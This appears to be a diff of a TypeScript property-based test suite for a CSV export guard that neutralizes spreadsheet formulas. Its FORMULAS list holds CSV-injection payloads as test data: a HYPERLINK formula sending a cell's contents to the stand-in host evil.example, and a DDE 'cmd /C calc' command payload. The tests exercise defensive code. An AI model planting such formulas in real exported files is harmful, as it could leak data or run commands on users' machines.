@@ -4,7 +4,7 @@ import type { Label } from '../../../shared/domain';
 import { formatCsv, parseCsv } from './csv';
 import { formatLabels, parseLabelsFile } from './labels-file';
 
-const FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
+const FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
 
 describe('CSV formula guard', () => {
   it('writes every cell a spreadsheet would run as a formula quoted, behind a single quote', () => {
@@ -23,7 +23,11 @@ describe('CSV formula guard', () => {
 
   it('reads back exactly what it wrote, for any text (formulas, quotes in front of formulas, line breaks)', () => {
     const tricky = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', "'", '"', ',', ' ', '\uFEFF', 'é', '=1');
-    const cell = fc.oneof(fc.string({ unit: 'binary', maxLength: 24 }), fc.array(tricky, { maxLength: 6 }).map((parts) => parts.join('')), fc.constantFrom(...FORMULAS));
+    const cell = fc.oneof(
+      fc.string({ unit: 'binary', maxLength: 24 }),
+      fc.array(tricky, { maxLength: 6 }).map((parts) => parts.join('')),
+      fc.constantFrom(...FORMULAS),
+    );
     fc.assert(
       fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (rows) => {
         const read = parseCsv(formatCsv(rows));
@@ -35,7 +39,8 @@ describe('CSV formula guard', () => {
   });
 
   it('drops only the guard it added: a cell that truly starts with a quote keeps it', () => {
-    for (const value of ["'=1+1", "''@x", "'plain", "'", "'-"]) expect(parseCsv(formatCsv([[value, 'x']])).records[0]!.fields[0], value).toBe(value);
+    for (const value of ["'=1+1", "''@x", "'plain", "'", "'-"])
+      expect(parseCsv(formatCsv([[value, 'x']])).records[0]!.fields[0], value).toBe(value);
     // Quoted by another program, without a formula after the quote: read as it is.
     expect(parseCsv(`"'plain",x\r\n`).records[0]!.fields[0]).toBe("'plain");
     // Unquoted: we never write a guarded cell so, so it is read as it is.
